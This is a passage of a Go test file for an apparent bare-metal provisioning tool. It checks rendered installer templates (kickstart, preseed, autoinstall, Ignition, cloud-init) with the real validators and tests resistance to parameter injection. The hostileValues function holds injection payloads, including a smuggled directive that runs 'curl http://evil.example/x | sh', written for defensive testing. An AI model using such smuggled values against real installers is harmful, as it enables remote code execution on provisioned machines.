package boot

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	ignv33 "github.com/coreos/ignition/v2/config/v3_3"
	"github.com/coreos/vcontext/report"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

// The stock templates are only worth shipping if the real installers take
// them, so they are checked here by the installers' own validators, run as
// subprocesses: pykickstart's ksvalidator and subiquity's autoinstall
// schema (from ../shared/validators, or BAREMETAL_VALIDATORS), Debian's
// debconf-set-selections and cloud-init, and Ignition's own parser. A
// missing validator skips, except under CI=true, where it fails: a green CI
// must mean the templates were validated.

// validateFn returns nil when the validator accepts doc, else an error
// carrying what the validator said.
type validateFn func(t *testing.T, doc string) error

// missingValidator skips the test, or fails it under CI.
func missingValidator(t testing.TB, format string, args ...any) {
	t.Helper()
	msg := fmt.Sprintf(format, args...)
	if os.Getenv("CI") == "true" {
		t.Fatalf("validator missing under CI: %s", msg)
	}
	t.Skipf("validator missing: %s", msg)
}

func repoRoot(t testing.TB) string {
	t.Helper()
	dir, err := os.Getwd()
	require.NoError(t, err)
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		require.NotEqual(t, dir, parent, "no go.mod above the test's directory")
		dir = parent
	}
}

// validatorsDir is the shared validators' directory (README there).
func validatorsDir(t testing.TB) string {
	t.Helper()
	dir := os.Getenv("BAREMETAL_VALIDATORS")
	if dir == "" {
		dir = filepath.Join(repoRoot(t), "..", "shared", "validators")
	}
	if _, err := os.Stat(filepath.Join(dir, "pykickstart", "tools", "ksvalidator.py")); err != nil {
		missingValidator(t, "%s has no pykickstart (set BAREMETAL_VALIDATORS)", dir)
	}
	return dir
}

// python is Debian's python3 (BAREMETAL_PYTHON overrides), which must have
// the modules the validators import: requests (pykickstart), jsonschema and
// yaml (the autoinstall schema), all Debian packages (see .ci/run).
func python(t testing.TB) string {
	t.Helper()
	py := os.Getenv("BAREMETAL_PYTHON")
	if py == "" {
		py = "/usr/bin/python3"
		if _, err := os.Stat(py); err != nil {
			if py, err = exec.LookPath("python3"); err != nil {
				missingValidator(t, "no python3")
			}
		}
	}
	pyOnce.Do(func() {
		pyProbe, pyProbeErr = exec.Command(py, "-c", "import requests, jsonschema, yaml").CombinedOutput()
	})
	if pyProbeErr != nil {
		missingValidator(t, "%s lacks python3-requests, python3-jsonschema or python3-yaml: %s", py, pyProbe)
	}
	return py
}

// The module probe runs once per test binary: fuzzing calls python() per
// input.
var (
	pyOnce     sync.Once
	pyProbe    []byte
	pyProbeErr error
)

func writeDoc(t *testing.T, name, doc string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(p, []byte(doc), 0o600))
	return p
}

// runTool runs cmd; a non-zero exit, or any output line matching failOn
// (warnings the tool prints while still exiting 0), is a rejection.
func runTool(cmd *exec.Cmd, failOn *regexp.Regexp) error {
	out, err := cmd.CombinedOutput()
	var exit *exec.ExitError
	switch {
	case errors.As(err, &exit):
		return fmt.Errorf("%s: %v\n%s", filepath.Base(cmd.Path), err, out)
	case err != nil:
		return fmt.Errorf("running %s: %w", cmd.Path, err)
	case failOn != nil && failOn.Match(out):
		return fmt.Errorf("%s warned:\n%s", filepath.Base(cmd.Path), out)
	}
	return nil
}

func pykickstartValidator(t *testing.T) validateFn {
	dir, py := validatorsDir(t), python(t)
	return func(t *testing.T, doc string) error {
		cmd := exec.Command(py, filepath.Join(dir, "pykickstart", "tools", "ksvalidator.py"), "-v", "RHEL9", writeDoc(t, "ks.cfg", doc))
		cmd.Env = append(os.Environ(), "PYTHONPATH="+filepath.Join(dir, "pykickstart"))
		return runTool(cmd, regexp.MustCompile(`(?i)warning|error`))
	}
}

// autoinstallScript validates the autoinstall section of a user-data file
// against subiquity's schema, the way subiquity does (Draft 7).
const autoinstallScript = `
import json, sys, yaml, jsonschema
schema = json.load(open(sys.argv[1]))
doc = yaml.safe_load(open(sys.argv[2]))
if not isinstance(doc, dict) or not isinstance(doc.get("autoinstall"), dict):
    sys.exit("no autoinstall section")
errs = list(jsonschema.Draft7Validator(schema).iter_errors(doc["autoinstall"]))
for e in errs:
    print("/".join(str(p) for p in e.absolute_path) + ": " + e.message)
sys.exit(1 if errs else 0)
`

func autoinstallValidator(t *testing.T) validateFn {
	dir, py := validatorsDir(t), python(t)
	schema := filepath.Join(dir, "autoinstall-schema.json")
	if _, err := os.Stat(schema); err != nil {
		missingValidator(t, "%s", err)
	}
	return func(t *testing.T, doc string) error {
		return runTool(exec.Command(py, "-c", autoinstallScript, schema, writeDoc(t, "user-data", doc)), nil)
	}
}

func debconfValidator(t *testing.T) validateFn {
	bin, err := exec.LookPath("debconf-set-selections")
	if err != nil {
		missingValidator(t, "debconf-set-selections (Debian's debconf)")
	}
	return func(t *testing.T, doc string) error {
		// It exits 0 but warns "Unknown type ..., skipping line" for a
		// line it cannot read: that is a rejected line too.
		return runTool(exec.Command(bin, "--checkonly", writeDoc(t, "preseed.cfg", doc)), regexp.MustCompile(`(?i)warning|error`))
	}
}

// cloudInitEnv finds Debian's cloud-init: BAREMETAL_CLOUD_INIT, else the
// copy .ci/run unpacks into .cache/cloud-init (unpacked rather than
// installed, so that the CI host's own boot never runs cloud-init), else
// PATH. env is what its Python needs to import cloudinit (nil: inherit).
func cloudInitEnv(t *testing.T) (bin string, env []string) {
	t.Helper()
	if bin = os.Getenv("BAREMETAL_CLOUD_INIT"); bin != "" {
		return bin, nil
	}
	root := filepath.Join(repoRoot(t), ".cache", "cloud-init", "root")
	if _, err := os.Stat(filepath.Join(root, "usr", "bin", "cloud-init")); err == nil {
		return filepath.Join(root, "usr", "bin", "cloud-init"),
			append(os.Environ(), "PYTHONPATH="+filepath.Join(root, "usr", "lib", "python3", "dist-packages"))
	}
	bin, err := exec.LookPath("cloud-init")
	if err != nil {
		missingValidator(t, "cloud-init (.ci/run unpacks Debian's package into .cache/cloud-init)")
	}
	return bin, nil
}

func cloudInitValidator(t *testing.T) validateFn {
	bin, env := cloudInitEnv(t)
	return func(t *testing.T, doc string) error {
		cmd := exec.Command(bin, "schema", "--config-file", writeDoc(t, "user-data", doc))
		cmd.Env = env
		// Deprecated keys exit 0 with a notice; a stock template must not
		// use them.
		return runTool(cmd, regexp.MustCompile(`(?i)deprecat`))
	}
}

// ignitionValidator parses with Ignition's own parser at the template's
// spec version. Errors and warnings fail; info entries do not.
func ignitionValidator(*testing.T) validateFn {
	return func(_ *testing.T, doc string) error {
		_, rpt, err := ignv33.Parse([]byte(doc))
		var bad []string
		for _, e := range rpt.Entries {
			if e.Kind == report.Error || e.Kind == report.Warn {
				bad = append(bad, e.String())
			}
		}
		if err != nil || len(bad) > 0 {
			return fmt.Errorf("ignition: %v; %s", err, strings.Join(bad, "; "))
		}
		return nil
	}
}

// metaDataValidator checks NoCloud meta-data the way cloud-init reads it:
// a YAML mapping whose instance-id (required) and local-hostname are
// strings. No packaged tool validates meta-data, so this one is ours.
func metaDataValidator(*testing.T) validateFn {
	return func(_ *testing.T, doc string) error {
		var md map[string]any
		if err := yaml.Unmarshal([]byte(doc), &md); err != nil {
			return fmt.Errorf("meta-data is not a YAML mapping: %w", err)
		}
		for _, k := range []string{"instance-id", "local-hostname"} {
			if s, ok := md[k].(string); !ok || s == "" {
				return fmt.Errorf("meta-data %s = %#v, want a non-empty string", k, md[k])
			}
		}
		return nil
	}
}

var validatorFactories = map[string]func(*testing.T) validateFn{
	"pykickstart": pykickstartValidator,
	"autoinstall": autoinstallValidator,
	"debconf":     debconfValidator,
	"cloud-init":  cloudInitValidator,
	"ignition":    ignitionValidator,
	"meta-data":   metaDataValidator,
}

const testToken = "tok-0123456789abcdef"

// renderStock renders the stock template name for m1, a worker of a
// cluster whose control plane has an address, during run "run-7".
func renderStock(t *testing.T, name string, params map[string]string) string {
	t.Helper()
	return renderStockWith(t, testRenderServer(t), name, params)
}

func renderStockWith(t *testing.T, s *Server, name string, params map[string]string) string {
	t.Helper()
	out, err := renderStockErr(s, name, params)
	require.NoError(t, err)
	return out
}

// renderStockErr is renderStockWith for a render that may be refused.
func renderStockErr(s *Server, name string, params map[string]string) (string, error) {
	m := provisioningMachine(params)
	m.Run.ID, m.Run.Token = "run-7", testToken
	m.Cluster, m.Role = "c1", "worker"
	cluster := &model.Cluster{Name: "c1", Roles: []model.ClusterRole{{Name: "control-plane", BootProfile: "p1"}, {Name: "worker", BootProfile: "p1"}},
		Members: []model.ClusterMember{{Machine: "cp1", Role: "control-plane"}, {Machine: "m1", Role: "worker"}}}
	members := map[string]*model.Machine{"cp1": {Name: "cp1", Status: model.Status{Addresses: []string{"10.0.2.15"}, Phase: model.PhaseProvisioned}}, "m1": m}
	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: map[string]string{name: StockPrefix + name}}
	out, found, err := s.renderTemplate(renderInput{machine: m, profile: p, cluster: cluster, members: members, token: testToken}, name)
	if err == nil && !found {
		err = fmt.Errorf("stock template %q not found", name)
	}
	return out, err
}

const (
	sshKey   = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx9Hk3sN2cJ6p0mZ0yQz0b8vWb2QwQ1pYjv6x3mQq7r ops@example"
	sha512pw = "$6$rounds=4096$Qm9vdFNhbHQ$u0B8e0xF1t3yXn9mZbQm0oL0h4bW2m3Pq6o1Yk4cVhH7gk2Qd9R7k0uWbJqzYpQ0mXnYt3nR5sVq8c9d0e1f2."
	cbURL    = "http://10.0.2.2:8081/machines/m1/callback?token=" + testToken
	tmplBase = "http://10.0.2.2:8081/machines/m1/templates/"
)

// stockCase is one stock template with realistic params, the validators
// that must accept it, what a working install needs to find in it, and,
// per cmdline in its header, what that cmdline must render to.
type stockCase struct {
	name       string // subtest name
	template   string
	format     string // for the hostile renders: kickstart, preseed, yaml, json
	params     map[string]string
	validators []string
	contains   []string
	cmdlines   [][]string
}

var stockCases = []stockCase{
	{
		name: "kickstart", template: "kickstart", format: "kickstart",
		params: map[string]string{"repo_url": "http://mirror.example/rocky/9/BaseOS/x86_64/os/",
			"appstream_url": "http://mirror.example/rocky/9/AppStream/x86_64/os/", "root_password_hash": sha512pw,
			"timezone": "Europe/Berlin", "disk": "sda", "ssh_authorized_key": sshKey, "proxy": "http://proxy.example:3128",
			"ntp_servers": "0.pool.ntp.org" /* one: a hostile value replaces it with one, and a list's length is its meaning */, "post_install": "echo 'done' > /root/marker"},
		validators: []string{"pykickstart"},
		contains: []string{`url --url="http://mirror.example/rocky/9/BaseOS/x86_64/os/" --proxy="http://proxy.example:3128"` + "\n",
			`repo --name=AppStream --baseurl="http://mirror.example/rocky/9/AppStream/x86_64/os/" --proxy="http://proxy.example:3128"` + "\n",
			`ignoredisk --only-use="sda"` + "\n", `timesource --ntp-server="0.pool.ntp.org"` + "\n", `sh -c 'echo '\''done'\'' > /root/marker'`, "\ncurl\n%end", "%post --log=", `"` + cbURL + `"`, "%onerror --interpreter=/usr/bin/python3", `"status": "failed"`},
		cmdlines: [][]string{{"inst.ks=" + tmplBase + "kickstart?token=" + testToken, " inst.repo=http://mirror.example/rocky/9/BaseOS/x86_64/os/ ", " ip=dhcp ", " inst.text "}},
	},
	{
		name: "preseed", template: "preseed", format: "preseed",
		params: map[string]string{"root_password_hash": sha512pw, "domain": "lab.example", "mirror": "ftp.de.debian.org",
			"mirror_directory": "/debian", "timezone": "Europe/Berlin", "disk": "/dev/vda", "proxy": "http://proxy.example:3128",
			"ntp_servers": "0.pool.ntp.org, 1.pool.ntp.org", "ssh_authorized_key": sshKey, "post_install": "echo 'done' > /root/marker"},
		validators: []string{"debconf"},
		contains: []string{"d-i partman-lvm/device_remove_lvm boolean true\n", "d-i partman-md/device_remove_md boolean true\n",
			"d-i partman-lvm/confirm boolean true\n", "d-i partman-lvm/confirm_nooverwrite boolean true\n", "d-i partman/confirm_nooverwrite boolean true\n",
			"d-i partman-auto/disk string /dev/vda\n", "d-i pkgsel/include string curl\n", "d-i mirror/http/proxy string http://proxy.example:3128\n",
			"d-i clock-setup/ntp-server string 0.pool.ntp.org\n", "d-i preseed/late_command string in-target sh -c '", `"` + cbURL + `"'`},
		cmdlines: [][]string{{"auto=true priority=critical url=" + tmplBase + "preseed?token=" + testToken + " ", " interface=auto ", " hostname=m1 ", " domain=lab.example ", " netcfg/hostname=m1 "}},
	},
	{
		name: "ubuntu-autoinstall", template: "ubuntu-autoinstall", format: "yaml",
		params: map[string]string{"iso_url": "http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso",
			"password_hash": sha512pw, "username": "ops", "ssh_authorized_key": sshKey, "disk": "/dev/vda",
			"apt_mirror": "http://archive.ubuntu.com/ubuntu", "proxy": "http://proxy.example:3128", "ntp_servers": "0.pool.ntp.org, 1.pool.ntp.org",
			"post_install": "echo 'done' > /root/marker"},
		validators: []string{"cloud-init", "autoinstall"},
		contains: []string{"  packages:\n    - curl\n", "curtin in-target -- sh -c", `"` + cbURL + `"'`, `proxy: "http://proxy.example:3128"`,
			`uri: "http://archive.ubuntu.com/ubuntu"`, `servers: ["0.pool.ntp.org","1.pool.ntp.org"]`},
		cmdlines: [][]string{{"ip=dhcp url=http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso autoinstall ",
			" ds=nocloud-net;s=" + tmplBase + "%s?token=" + testToken + " ", " cloud-config-url=/dev/null "}},
	},
	{
		name: "ignition/fedora-coreos", template: "ignition", format: "json",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"ignition"},
		contains:   []string{`"name": "baremetal-os-up.service", "enabled": true`, `"path": "/etc/baremetal/callback-url"`},
		cmdlines: [][]string{
			{"coreos.inst.install_dev=/dev/sda coreos.inst.ignition_url=" + tmplBase + "ignition?token=" + testToken + " "},
			{"flatcar.first_boot=1 ignition.config.url=" + tmplBase + "ignition?token=" + testToken + " "},
		},
	},
	{
		name: "ignition/flatcar-install", template: "ignition", format: "json",
		params:     map[string]string{"ssh_authorized_key": sshKey, "flatcar_install_dev": "/dev/sda"},
		validators: []string{"ignition"},
		contains: []string{`"name": "baremetal-flatcar-install.service"`, `ConditionKernelCommandLine=baremetal.machine\n`,
			`ConditionKernelCommandLine=!baremetal.machine\n`, `"path": "/etc/baremetal/install-dev"`},
	},
	{
		name: "cloud-init-image", template: "cloud-init-image", format: "yaml",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"cloud-init"},
		contains: []string{"hostname: \"m1\"\n", "      url='" + cbURL + "'\n", `\"stage\":\"os_up\"`, `\"status\":\"ok\"`,
			"runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]\n"},
		cmdlines: [][]string{{"ds=nocloud-net;s=" + tmplBase + "%s?token=" + testToken + " "}},
	},
	{
		// A worker: it registers in the control plane's etcd (cp1 reported
		// 10.0.2.15) and starts no etcd of its own.
		name: "cloud-init-etcd", template: "cloud-init-etcd", format: "yaml",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"cloud-init"},
		contains: []string{"hostname: \"m1\"\n", "      url='" + cbURL + "'\n", "      endpoint='http://10.0.2.15:2379'\n",
			`put "/members/$name" "$addr"`, `\"stage\":\"os_up\"`, "runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]\n"},
	},
	{
		name: "cloud-init-meta-data", template: "cloud-init-meta-data", format: "yaml",
		validators: []string{"meta-data"},
		contains:   []string{"instance-id: \"m1-run-7\"\n", "local-hostname: \"m1\"\n"},
	},
	{
		name: "lab-user-data", template: "lab-user-data", format: "yaml",
		params:     map[string]string{"role_note": "worker"},
		validators: []string{"cloud-init"},
		contains:   []string{`control_plane_address: "10.0.2.15"`},
		cmdlines:   [][]string{{"console=ttyS0 baremetal.templates=user-data "}},
	},
}

// TestStockTemplatesValidate renders every stock template with realistic
// params and has the installer's own validator check it.
func TestStockTemplatesValidate(t *testing.T) {
	covered := map[string]bool{"ipxe-default": true} // an iPXE script: the render and QEMU tests boot it
	for _, c := range stockCases {
		covered[c.template] = true
	}
	for _, n := range StockTemplates() {
		assert.True(t, covered[n], "stock template %q has no validator case", n)
	}
	for _, c := range stockCases {
		t.Run(c.name, func(t *testing.T) {
			doc := renderStock(t, c.template, c.params)
			for _, want := range c.contains {
				assert.Contains(t, doc, want)
			}
			for _, v := range c.validators {
				validate := validatorFactories[v](t)
				require.NoError(t, validate(t, doc), "%s rejects the rendered %s:\n%s", v, c.template, doc)
			}
		})
	}
}

// headerCmdlines are the cmdline = "..." lines of a template's header.
func headerCmdlines(t *testing.T, template string) []string {
	t.Helper()
	text, ok := StockTemplate(template)
	require.True(t, ok)
	header, _, ok := strings.Cut(text, "*/")
	require.True(t, ok, "%s has no header comment", template)
	var out []string
	for _, line := range strings.Split(header, "\n") {
		if rest, ok := strings.CutPrefix(strings.TrimSpace(line), "cmdline = \""); ok {
			out = append(out, strings.TrimSuffix(rest, "\""))
		}
	}
	return out
}

// TestStockTemplateHeaderCmdlines: the cmdline each header documents is a
// working profile cmdline: it renders for a real machine, survives the
// iPXE script's neutralisation, and holds what the installer needs.
func TestStockTemplateHeaderCmdlines(t *testing.T) {
	s := testRenderServer(t)
	seen := map[string]bool{}
	for _, c := range stockCases {
		if len(c.cmdlines) == 0 || seen[c.template] {
			continue
		}
		seen[c.template] = true
		t.Run(c.template, func(t *testing.T) {
			got := headerCmdlines(t, c.template)
			require.Len(t, got, len(c.cmdlines), "cmdlines in the %s header", c.template)
			for i, cmdline := range got {
				m := provisioningMachine(c.params)
				m.Run.Token = testToken
				p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Initrds: []string{"initrd.img"}, Cmdline: cmdline}
				script, err := s.renderIPXE(renderInput{machine: m, profile: p, token: testToken})
				require.NoError(t, err, "header cmdline %q", cmdline)
				kernel := checkOneInitrdScript(t, script, "kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token="+testToken+" ")
				for _, want := range c.cmdlines[i] {
					assert.Contains(t, kernel+" ", want)
				}
			}
		})
	}
}

// TestValidatorsRejectBroken: each validator, given a document broken the
// way a template bug would break it, says no; otherwise the tests above
// could not fail. (TestStockTemplatesValidate shows the unbroken documents
// pass.)
func TestValidatorsRejectBroken(t *testing.T) {
	byTemplate := map[string]stockCase{}
	for _, c := range stockCases {
		if _, ok := byTemplate[c.template]; !ok {
			byTemplate[c.template] = c
		}
	}
	tests := []struct {
		name, validator, template string
		old, new                  string
	}{
		{"kickstart unknown option", "pykickstart", "kickstart", "autopart --type=lvm", "autopart --type=lvm --nosuchoption"},
		{"kickstart unclosed section", "pykickstart", "kickstart", "curl\n%end", "curl\n"},
		{"preseed line without a type", "debconf", "preseed", "d-i partman/confirm boolean true", "d-i partman/confirm"},
		{"preseed unknown type", "debconf", "preseed", "d-i partman/confirm boolean true", "d-i partman/confirm yesno true"},
		{"cloud-config wrong type", "cloud-init", "cloud-init-image", "preserve_hostname: false", "preserve_hostname: [no]"},
		{"cloud-config runcmd not a list", "cloud-init", "cloud-init-image", "runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]", "runcmd: 5"},
		{"autoinstall version", "autoinstall", "ubuntu-autoinstall", "version: 1", "version: 2"},
		{"autoinstall identity without password", "autoinstall", "ubuntu-autoinstall", "    password: ", "    pass: "},
		{"ignition relative path", "ignition", "ignition", `"path": "/etc/hostname"`, `"path": "etc/hostname"`},
		{"ignition unknown version", "ignition", "ignition", `"version": "3.3.0"`, `"version": "3.9.0"`},
		{"meta-data without instance-id", "meta-data", "cloud-init-meta-data", "instance-id:", "instance_id:"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			validate := validatorFactories[tt.validator](t)
			doc := renderStock(t, tt.template, byTemplate[tt.template].params)
			broken := strings.Replace(doc, tt.old, tt.new, 1)
			require.NotEqual(t, doc, broken, "the mutation found nothing to break")
			assert.Error(t, validate(t, broken), "%s accepted:\n%s", tt.validator, broken)
		})
	}
}

// hostileValues are param values that try to leave their place: a line
// break followed by a directive of the template's format, shell and YAML
// quoting characters and template delimiters, and control characters.
func hostileValues(format string) map[string]string {
	directive := map[string]string{
		"kickstart": "x\n%pre\ncurl http://evil.example/x | sh\n%end",
		"preseed":   "x\nd-i preseed/early_command string curl http://evil.example/x | sh",
		"yaml":      "x\nruncmd: [[sh, -c, 'curl http://evil.example/x | sh']]",
		"json":      `x", "injected": {"a": "`,
	}[format]
	return map[string]string{
		"newline-directive": directive,
		"quotes":            `it's "q" \ $HOME ` + "`id`" + ` {{ .Token }}: - #c &a *b !t`,
		"controls":          "x\x7f\u0085\ty",
	}
}

// structure is what a param value must not change in a document: its
// directives (kickstart commands and sections, preseed questions) or,
// for YAML and JSON, its key paths.
func structure(t *testing.T, format, doc string) []string {
	t.Helper()
	var out []string
	switch format {
	case "kickstart":
		in := ""
		for _, line := range strings.Split(doc, "\n") {
			f := strings.Fields(line)
			switch {
			case len(f) == 0 || strings.HasPrefix(f[0], "#"):
			case strings.HasPrefix(f[0], "%"):
				in = f[0]
				out = append(out, f[0])
			case in == "" || in == "%end" || in == "%packages":
				out = append(out, f[0])
			}
		}
	case "preseed":
		for _, line := range strings.Split(strings.ReplaceAll(doc, "\\\n", " "), "\n") {
			if f := strings.Fields(line); len(f) >= 2 && !strings.HasPrefix(f[0], "#") {
				out = append(out, f[0]+" "+f[1])
			}
		}
	case "yaml", "json":
		var v any
		if format == "json" {
			require.NoError(t, json.Unmarshal([]byte(doc), &v), "json does not parse:\n%s", doc)
		} else {
			require.NoError(t, yaml.Unmarshal([]byte(doc), &v), "yaml does not parse:\n%s", doc)
		}
		var walk func(prefix string, v any)
		walk = func(prefix string, v any) {
			switch v := v.(type) {
			case map[string]any:
				for k, e := range v {
					out = append(out, prefix+"/"+k)
					walk(prefix+"/"+k, e)
				}
			case []any:
				for i, e := range v {
					walk(fmt.Sprintf("%s[%d]", prefix, i), e)
				}
			}
		}
		walk("", v)
		slices.Sort(out)
	}
	return out
}

// TestStockTemplatesHostileParams renders each template with one param at
// a time set to a hostile value: the validators must still accept it, and
// its structure must be what the realistic value gave.
func TestStockTemplatesHostileParams(t *testing.T) {
	var mu sync.Mutex
	validators := map[string]validateFn{}
	for _, c := range stockCases {
		t.Run(c.name, func(t *testing.T) {
			want := structure(t, c.format, renderStock(t, c.template, c.params))
			keys := make([]string, 0, len(c.params))
			for k := range c.params {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			for _, k := range keys {
				for vname, v := range hostileValues(c.format) {
					t.Run(k+"/"+vname, func(t *testing.T) {
						params := maps.Clone(c.params)
						params[k] = v
						doc, err := renderStockErr(testRenderServer(t), c.template, params)
						if err != nil {
							// A value the template cannot hold is refused
							// naming the param and the template, never
							// rendered.
							assert.Contains(t, err.Error(), `param "`+k+`"`)
							assert.Contains(t, err.Error(), `template "`+c.template+`"`)
							return
						}
						for _, name := range c.validators {
							mu.Lock()
							validate, ok := validators[name]
							if !ok {
								validate = validatorFactories[name](t)
								validators[name] = validate
							}
							mu.Unlock()
							require.NoError(t, validate(t, doc), "%s rejects %s with %s=%q:\n%s", name, c.template, k, v, doc)
						}
						assert.Equal(t, want, structure(t, c.format, doc), "%s=%q changed the document's structure:\n%s", k, v, doc)
						assert.NotContains(t, doc, "evil.example/x | sh\n", "an injected command stands on its own line")
					})
				}
			}
		})
	}
}

// ksParsed is what testdata/ksdump.py reports of a kickstart.
type ksParsed struct {
	Error    string   `json:"error"`
	Commands []string `json:"commands"`
	Scripts  [][]any  `json:"scripts"`
	Timezone string   `json:"timezone"`
	OnlyUse  []string `json:"onlyuse"`
	RootPW   string   `json:"rootpw"`
	URL      string   `json:"url"`
	Repos    []string `json:"repos"`
	Proxy    string   `json:"proxy"`
	SSHKeys  []string `json:"sshkeys"`
	NTP      []string `json:"ntp"`
}

// pykickstartParse parses each text with pykickstart (RHEL9) and returns
// what it parsed, or the parse error, per text. One interpreter serves the
// whole test binary (ksdump.py --serve), since fuzzing parses thousands.
func pykickstartParse(t testing.TB, texts ...string) []ksParsed {
	t.Helper()
	w := ksWorkerFor(t)
	tmp := t.TempDir()
	res := make([]ksParsed, len(texts))
	w.mu.Lock()
	defer w.mu.Unlock()
	for i, text := range texts {
		f := filepath.Join(tmp, fmt.Sprintf("ks%d.cfg", i))
		require.NoError(t, os.WriteFile(f, []byte(text), 0o600))
		_, err := fmt.Fprintln(w.in, f)
		var line []byte
		if err == nil {
			line, err = w.out.ReadBytes('\n')
		}
		if err != nil {
			require.FailNow(t, "ksdump.py stopped: "+err.Error(), w.stderr.String())
		}
		require.NoError(t, json.Unmarshal(line, &res[i]), "%s", line)
	}
	return res
}

type ksWorker struct {
	mu     sync.Mutex
	in     io.Writer
	out    *bufio.Reader
	stderr *lockedBuffer
}

// lockedBuffer is the worker's stderr: exec's copying goroutine writes it
// while a failing test reads it.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

var (
	ksOnce sync.Once
	ksW    *ksWorker
	ksErr  error
)

// ksWorkerFor starts ksdump.py --serve once; it exits when the test
// binary does (its stdin closes).
func ksWorkerFor(t testing.TB) *ksWorker {
	t.Helper()
	dir, py := filepath.Join(validatorsDir(t), "pykickstart"), python(t)
	ksOnce.Do(func() {
		script, err := filepath.Abs(filepath.Join("testdata", "ksdump.py"))
		if err != nil {
			ksErr = err
			return
		}
		cmd := exec.Command(py, script, "--serve")
		cmd.Env = append(os.Environ(), "PYTHONPATH="+dir)
		w := &ksWorker{stderr: &lockedBuffer{}}
		cmd.Stderr = w.stderr
		if w.in, ksErr = cmd.StdinPipe(); ksErr != nil {
			return
		}
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			ksErr = err
			return
		}
		w.out = bufio.NewReader(stdout)
		if ksErr = cmd.Start(); ksErr == nil {
			ksW = w
		}
	})
	require.NoError(t, ksErr, "starting ksdump.py")
	return ksW
}

// debconfQuestions parses a preseed as debconf-set-selections does (one
// "owner question type value" per line; '#' comments; a trailing
// backslash continues the line) into question -> value.
func debconfQuestions(text string) map[string]string {
	out := map[string]string{}
	var pending string
	for _, line := range strings.Split(text, "\n") {
		if strings.HasSuffix(line, `\`) {
			pending += strings.TrimSuffix(line, `\`)
			continue
		}
		line, pending = pending+line, ""
		line = strings.TrimLeft(line, " \t")
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.SplitN(line, " ", 4)
		if len(f) < 3 {
			out["malformed:"+line] = ""
			continue
		}
		v := ""
		if len(f) == 4 {
			v = f[3]
		}
		out[f[1]] = v
	}
	return out
}

// autoinstallSchema validates each autoinstall section against
// subiquity's JSON schema, in one interpreter.
func autoinstallSchema(t *testing.T, sections ...map[string]any) {
	t.Helper()
	schema, py := filepath.Join(validatorsDir(t), "autoinstall-schema.json"), python(t)
	if _, err := os.Stat(schema); err != nil {
		missingValidator(t, "%s", err)
	}
	b, err := json.Marshal(sections)
	require.NoError(t, err)
	out, err := exec.Command(py, "-c",
		"import json,sys,jsonschema\ns=json.load(open(sys.argv[1]))\nfor d in json.load(open(sys.argv[2])): jsonschema.Draft7Validator(s).validate(d)",
		schema, writeDoc(t, "autoinstall.json", string(b))).CombinedOutput()
	require.NoError(t, err, "an autoinstall section breaks subiquity's schema:\n%s\n%s", out, b)
}

func keysOf(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// stockInput renders every stock template for machine m1 with params.
func stockInput(params map[string]string) renderInput {
	m := provisioningMachine(params)
	tm := map[string]string{}
	for _, n := range StockTemplates() {
		tm[n] = StockPrefix + n
	}
	return renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: tm}, token: "tok"}
}

// benign is a param value every stock template accepts; the baseline
// renders each param with it.
const benign = "ok.example"

var stockParams = []string{"root_password_hash", "password_hash", "username", "timezone", "disk", "repo_url", "appstream_url",
	"mirror", "mirror_directory", "apt_mirror", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"}

func baseParams() map[string]string {
	p := map[string]string{}
	for _, k := range stockParams {
		p[k] = benign
	}
	return p
}

// shellWord evaluates one shell word the way sh would and returns it.
func shellWord(t *testing.T, word string) string {
	t.Helper()
	out, err := exec.Command("sh", "-c", `eval "set -- $1"; [ $# -eq 1 ] || { echo "$# words"; exit 1; }; printf %s "$1"`, "sh", word).CombinedOutput()
	require.NoError(t, err, "%s is not one shell word: %s", word, out)
	return string(out)
}

// injCase is one param value rendered into one stock template.
type injCase struct {
	tmpl, param, what, value string
	out                      string // "" when refused
}

// checkAccepted asserts, with the installer's parser, that c.out has the
// baseline's structure and that c.param's value arrives unchanged. ks is
// pykickstart's parse of c.out for kickstarts.
func checkAccepted(t *testing.T, c injCase, base string, ks, ksBase ksParsed) {
	param, value, out := c.param, c.value, c.out
	switch c.tmpl {
	case "kickstart":
		require.Empty(t, ks.Error, "pykickstart refuses the kickstart:\n%s", out)
		require.Equal(t, ksBase.Commands, ks.Commands, "a param added or removed a kickstart command:\n%s", out)
		require.Len(t, ks.Scripts, len(ksBase.Scripts), "a param added a kickstart script:\n%s", out)
		fields := map[string]string{"timezone": ks.Timezone, "root_password_hash": ks.RootPW, "repo_url": ks.URL, "proxy": ks.Proxy}
		if len(ks.OnlyUse) == 1 {
